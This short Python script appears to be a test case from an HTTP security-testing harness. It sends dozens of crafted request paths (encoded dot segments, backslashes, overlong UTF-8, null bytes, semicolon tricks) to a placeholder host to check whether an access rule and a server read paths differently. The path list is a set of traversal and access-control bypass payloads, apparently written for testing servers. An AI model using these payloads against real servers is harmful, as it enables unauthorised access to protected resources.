# SPDX-License-Identifier: Apache-2.0
# Trick: paths that lead out of what is allowed once a server has read them: dots,
#	escapes, doubled, backslash, overlong
# Gain: the rule and the server read two paths
from trick import *

HIDDEN = b"GET /denied HTTP/1.1\r\nHost: paths.example.com\r\nX-Smuggled: 1\r\n\r\n"
HEAD = b"GET /ok/1 HTTP/1.1\r\nHost: paths.example.com\r\n"
look_up("paths.example.com")


def both(data):
    talk(PATHS, 80, data, 0.1)
    return over_tls(PATHS, "paths.example.com", data, 0.15)

outs = []
for path in ("/denied", "/ok/../denied", "/ok/%2e%2e/denied", "/ok/%2E%2E%2Fdenied", "/ok/..%2fdenied", "/ok/..%5cdenied", "/ok/..\\denied", "/ok/..;/denied", "/ok;/../denied", "//denied",
             "/OK/1", "/ok", "/./denied", "/ok/.%2e/denied", "/ok/%252e%252e/denied", "/ok/%c0%ae%c0%ae/denied", "/ok/%e0%80%ae%e0%80%ae/denied", "/ok%2f1", "/ok%00/1", "/ok/%00/../../denied",
             "/ok/\xef\xbc\x8e\xef\xbc\x8e/denied", "/%6fk/../denied", "/ok/1/../../denied", "/ok/%", "/ok/%zz", "/../ok/../denied", "/ok/%2e%2e;x/denied", "/ok/..%00/denied", "/ok/..%09/denied",
             "/ok/%u002e%u002e/denied", "/ok//../../denied", "/ok/..", "/ok/.%2e", "/ok/%2e%2e", "ok/1", "?/ok/1", "/ok?/../denied".replace("ok?", "denied?/ok/")):
    outs.append((path, both(f"GET {path} HTTP/1.1\r\nHost: paths.example.com\r\n\r\n".encode("latin-1"))))
any_answer("another path", outs)
